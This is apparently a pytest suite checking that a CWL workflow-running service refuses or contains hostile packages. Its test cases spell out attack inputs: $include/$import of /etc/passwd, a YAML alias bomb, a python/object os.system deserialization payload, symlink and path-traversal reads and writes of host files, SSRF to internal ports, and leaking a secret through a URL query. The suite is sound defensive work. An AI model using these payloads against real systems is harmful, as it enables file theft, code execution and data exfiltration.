"""Hostile packages are refused, or contained: nothing of the host is read, written or left running, and it says why."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from cwl.conftest import SECRET  # type: ignore[import-not-found]
from support.at_work import at_work
from support.mills import Mill
from support.packages import (
    PYTHON,
    Json,
    Site,
    deploy,
    expression,
    glob,
    outputs,
    run,
    send,
    text,
    tool,
    workflow,
)
from support.waiting import until

JS = "InlineJavascriptRequirement"
O = {"o": glob("o")}  # noqa: E741
FOLDER = {"d": glob("d", "Directory")}
MAKE_O = "open('o', 'w').write('done')"


def staged(*listing: Any) -> Json:
    """What a tool finds in its folder."""
    return {"InitialWorkDirRequirement": {"listing": list(listing)}, JS: {}}


def then(first: Json, second: Json) -> Json:
    """A tool that gives a directory d, and one that takes it and gives a file o."""
    steps = {
        "first": {"run": first, "in": {}, "out": ["d"]},
        "second": {"run": second | {"inputs": {"d": "Directory"}}, "in": {"d": "first/d"}, "out": ["o"]},
    }
    return workflow(steps, {"o": {"type": "File", "outputSource": "second/o"}})


def leading_to(victim: Path) -> Json:
    """A tool that gives a directory with a link that leads out."""
    return tool(f"import os; os.mkdir('d'); os.symlink('{victim}', 'd/out'); open('d/x', 'w')", FOLDER)


# ---- at deployment

ECHO = "cwlVersion: v1.2\nclass: CommandLineTool\nbaseCommand: echo\n"
REFUSED = {
    "an include": (ECHO + "inputs: []\noutputs: []\ndoc: {$include: /etc/hostname}\n", "$include"),
    "an import of a file": (ECHO + "inputs: []\noutputs: [{$import: file:///etc/hostname}]\n", "$import"),
    "an import of a page": (ECHO + "inputs: {$import: 'http://10.0.0.1/x.yml'}\noutputs: []\n", "$import"),
    "a mixin": (ECHO + "inputs: []\noutputs: []\n$mixin: http://10.0.0.1/x\n", "$mixin"),
    "a file of the host": (
        ECHO + "inputs: {a: {type: File, default: {class: File, location: /etc/passwd}}}\noutputs: []\n", "etc/passwd"
    ),
    "a file of the host by its path": (
        ECHO + "inputs: {a: {type: File, default: {class: File, path: ../../x}}}\noutputs: []\n", "x"
    ),
    "a directory of the host": (
        ECHO + "inputs: {a: {type: Directory, default: {class: Directory, location: 'file:///etc'}}}\noutputs: []\n",
        "etc",
    ),
    "a file of the host to be staged": (
        ECHO + "inputs: []\noutputs: []\nrequirements:\n  InitialWorkDirRequirement:\n    listing:\n"
        "      - {class: File, location: 'file:///etc/passwd'}\n", "etc/passwd",
    ),
    "a bomb of aliases": (
        "cwlVersion: v1.2\nclass: CommandLineTool\na: &a [x, x, x, x, x, x, x, x, x, x]\n"
        + "".join(f"{b}: &{b} [{', '.join(f'*{a}' for _ in range(10))}]\n" for a, b in zip("abcdefgh", "bcdefghi")),
        "",
    ),
    "an alias of itself": ("cwlVersion: v1.2\nclass: CommandLineTool\ninputs: &a [*a]\noutputs: []\n", "deeper"),
    "brackets in brackets": (ECHO + "inputs: " + "[" * 50_000 + "]" * 50_000 + "\noutputs: []\n", "deep"),
    "braces in braces": ('{"a": ' * 100_000 + "1" + "}" * 100_000, ""),
    "a number without an end": (ECHO + "inputs: []\noutputs: []\nsuccessCodes: [" + "9" * 400_000 + "]\n", ""),
    "a python object": (ECHO + "inputs: []\noutputs: []\ndoc: !!python/object/apply:os.system [id]\n", ""),
    "a process of cwltool's own": (
        "cwlVersion: v1.2\nclass: ProcessGenerator\ninputs: []\noutputs: []\nrun: {}\n", "ProcessGenerator"
    ),
    "a step of cwltool's own": (
        "cwlVersion: v1.2\nclass: Workflow\ninputs: []\noutputs: []\nsteps:\n  s: {in: [], out: [], run: {class: "
        "'http://commonwl.org/cwltool#ProcessGenerator', inputs: [], outputs: [], run: {}}}\n", "",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_a_package_that_reaches_out_or_explodes_is_refused(server: Mill, name: str, case: str) -> None:
    document, said = REFUSED[case]
    reply = send(server, document.encode(), name)
    detail = reply.json()["detail"]
    assert reply.status in (400, 422), detail
    assert said in detail
    assert "/tmp/" not in detail and "Traceback" not in detail and len(detail) < 2000


@pytest.mark.parametrize("where", ["http://10.0.0.1/x", "../x.cwl", "file:///etc/hostname", "/etc/hostname", "x.cwl#y"])
def test_a_step_that_is_not_in_the_package_is_refused(server: Mill, name: str, where: str) -> None:
    document = workflow({"s": {"run": where, "in": {}, "out": []}}, {})
    reply = send(server, document, name)
    assert (reply.status, where in reply.json()["detail"]) == (400, True), reply.data


# ---- files of the host


def reading(victim: Path) -> dict[str, Json]:
    """Packages that want to read what is not theirs."""
    secret = f"{victim}/secret.txt"
    give = "return {o: {class: 'File', location: 'file://%s'}};" % secret
    read = f"import shutil; shutil.copy('d/out/secret.txt', 'o')"
    link = f"import os; os.symlink('{secret}', 'o')"
    other = f"import os; os.mkdir('d'); os.mkdir('e'); os.symlink('../e', 'd/a'); os.symlink('{victim}', 'e/x')"
    said = {"o": {"class": "File", "location": f"file://{secret}"}}
    contents = {"o": {"type": "string", "outputBinding": {"glob": "o", "loadContents": True,
                                                          "outputEval": "$(self[0].contents)"}}}  # fmt: skip
    beside = {"o": glob("o") | {"secondaryFiles": [f"../../../../../../../..{secret}"]}}
    return {
        "an expression": expression(give, {"o": "File"}),
        "an expression with a path": expression(give.replace("location", "path").replace("file://", ""), {"o": "File"}),
        "an expression with a folder": expression(
            "return {o: {class: 'Directory', location: 'file://%s'}};" % victim, {"o": "Directory"}
        ),
        "a listing": expression(
            "return {o: {class: 'Directory', basename: 'q', listing: [{class: 'Directory', location: 'file://%s'}]}};"
            % victim,
            {"o": "Directory"},
        ),
        "a link": tool(link, O),
        "a link that is read": tool(link, contents, requirements={JS: {}}),
        "a link in a folder": leading_to(victim),
        "a link to a folder with a link": tool(other, FOLDER),
        "a link in a folder with a listing": tool(
            f"import os; os.mkdir('d'); os.symlink('{victim}', 'd/out')",
            {"d": glob("d", "Directory") | {"loadListing": "deep_listing"}},
            requirements={"LoadListingRequirement": {"loadListing": "deep_listing"}},
        ),
        "a pattern from the root": tool("", {"o": glob(secret)}),
        "a pattern that goes up": tool("", {"o": glob(f"../../../../../../../../..{secret}")}),
        "a pattern through a link": tool(f"import os; os.symlink('{victim}', 'd')", {"o": glob("d/secret.txt")}),
        "a pattern through a link, unclear": tool(f"import os; os.symlink('{victim}', 'd')", {"o": glob("?/secret*")}),
        "cwl.output.json": tool(f"open('cwl.output.json', 'w').write({json.dumps(said)!r})", {"o": "File"}),
        "cwl.output.json as a link": tool(f"import os; os.symlink('{secret}', 'cwl.output.json')", {"o": "File"}),
        "a file beside": tool(MAKE_O, beside),
        "a folder to write to": then(leading_to(victim), tool(
            read, O, requirements=staged({"entry": "$(inputs.d)", "writable": True})
        )),
        "a file of an expression": workflow(
            {
                "first": {"run": expression(give, {"o": "Any"}), "in": {}, "out": ["o"]},
                "second": {
                    "run": tool("import sys, shutil; shutil.copy(sys.argv[1], 'o')", O,
                                {"f": {"type": "File", "inputBinding": {}}}),
                    "in": {"f": "first/o"}, "out": ["o"],
                },
            },
            {"o": {"type": "File", "outputSource": "second/o"}},
        ),
        "its errors": tool(
            f"import os, sys; os.unlink('e'); os.symlink('{secret}', 'e'); sys.exit(1)", {}, stderr="e"
        ),
        "its input": tool(MAKE_O, O, stdin=secret),
    }  # fmt: skip


@pytest.mark.parametrize("case", reading(Path("/")))
def test_a_file_of_the_host_is_not_read(server: Mill, name: str, victim: Path, case: str) -> None:
    status = run(server, reading(victim)[case], name)
    assert status["status"] == "failed"
    assert SECRET not in text(server, status["jobID"])
    assert len(status["message"]) > 20 and "Traceback" not in status["message"]


def writing(victim: Path) -> dict[str, Json]:
    """Packages that want to write what is not theirs."""
    up = f"../../../../../../../../../..{victim}/new"
    give = "${return {class: 'File', basename: 'new', contents: 'x', dirname: '%s'}}" % victim
    nested = "${return {class: 'Directory', basename: 'q', listing: [{class: 'File', basename: '%s', contents: ''}]}}"
    replaced = f"import os, shutil; shutil.rmtree('a'); os.symlink('{victim}', 'a'); open('o', 'w')"
    make = "import os; os.makedirs('d/sub'); open('d/sub/x', 'w')"
    return {
        "a name that goes up": tool(MAKE_O, O, requirements=staged({"entryname": up, "entry": "x"})),
        "a name from the root": tool(MAKE_O, O, requirements=staged({"entryname": f"{victim}/new", "entry": "x"})),
        "a name in a listing": tool(MAKE_O, O, requirements=staged(nested % up)),
        "a folder that is given": tool(MAKE_O, O, requirements=staged(give)),
        "its output": tool(MAKE_O, O, stdout=up),
        "its output from the root": tool(MAKE_O, O, stdout=f"{victim}/new"),
        "its errors": tool(MAKE_O, O, stderr=up),
        "through a link": then(leading_to(victim), tool(
            MAKE_O, O, requirements=staged("$(inputs.d)", {"entryname": "d/out/new", "entry": "x"})
        )),
        "its output through a link": then(leading_to(victim), tool(
            MAKE_O, O, requirements=staged("$(inputs.d)"), stdout="d/out/new"
        )),
        "where its folder was": then(tool(make, FOLDER), tool(
            replaced, O, requirements=staged({"entryname": "a/sub", "entry": "$(inputs.d)"})
        )),
        "where its file was": then(tool(make, FOLDER), tool(
            replaced, O, requirements=staged({"entryname": "a/secret.txt", "entry": "$(inputs.d)"})
        )),
    }  # fmt: skip


@pytest.mark.parametrize("case", writing(Path("/")))
def test_a_file_of_the_host_is_not_written(server: Mill, name: str, victim: Path, case: str) -> None:
    reply = send(server, writing(victim)[case], name)
    if reply.status == 201:  # the victim tells
        job_id = server.submit(name)
        assert server.ended(job_id, 30).message or outputs(server, job_id)
    else:
        assert reply.status in (400, 422), reply.data


def test_another_job_is_out_of_reach(server: Mill, name: str) -> None:
    first = run(server, tool(f"open('o', 'w').write('{SECRET}')", O), name)
    folder = server.store.folder(first["jobID"])
    script = f"import os; print(os.path.exists('{folder}')); os.symlink('{folder}/outputs/o', 'o')"
    status = run(server, tool(script, O), f"{name}-other")
    assert status["status"] == "failed"
    assert SECRET not in text(server, status["jobID"])
    assert b"True" not in server.call("GET", f"/jobs/{status['jobID']}/logs").data


# ---- the network


def test_a_file_that_the_package_names_is_fetched_through_the_guard(
    server: Mill, name: str, web: Site, closed_web: Site
) -> None:
    def copying(address: str) -> Json:
        default = {"class": "File", "location": address}
        copy = "import shutil, sys; shutil.copy(sys.argv[1], 'o')"
        return tool(copy, O, {"f": {"type": "File", "default": default, "inputBinding": {}}})

    status = run(server, copying(web.page("/default.txt", b"hello")), name)
    assert status["status"] == "successful", status
    assert outputs(server, status["jobID"])[0].read_text() == "hello"
    status = run(server, copying(closed_web.page("/default.txt", SECRET.encode())), f"{name}-closed")
    assert (status["status"], closed_web.asked) == ("failed", [])
    assert "is not a public address" in status["message"]


def test_a_package_tells_nobody_anything_by_an_address(server: Mill, name: str, web: Site) -> None:
    telling = expression(f"return {{o: {{class: 'File', location: '{web.url}/told?' + inputs.s}}}};", {"o": "File"},
                         {"s": "string"})  # fmt: skip
    steps = {
        "first": {"run": telling, "in": {"s": "s"}, "out": ["o"]},
        "second": {"run": tool(MAKE_O, O, {"f": "File"}), "in": {"f": "first/o"}, "out": ["o"]},
    }
    document = workflow(steps, {"o": {"type": "File", "outputSource": "second/o"}}, {"s": "string"})
    status = run(server, document, name, s=SECRET.replace(" ", ""))
    assert status["status"] == "failed"
    assert not [path for path in web.asked if path.startswith("/told")]


def test_no_port_of_the_host_is_reached(server: Mill, name: str, closed_web: Site) -> None:
    script = f"""
        import urllib.request
        open('o', 'wb').write(urllib.request.urlopen('{closed_web.page("/inside", SECRET.encode())}').read())
    """
    status = run(server, tool(script, O), name)
    assert (status["status"], "/inside" in closed_web.asked) == ("failed", False)
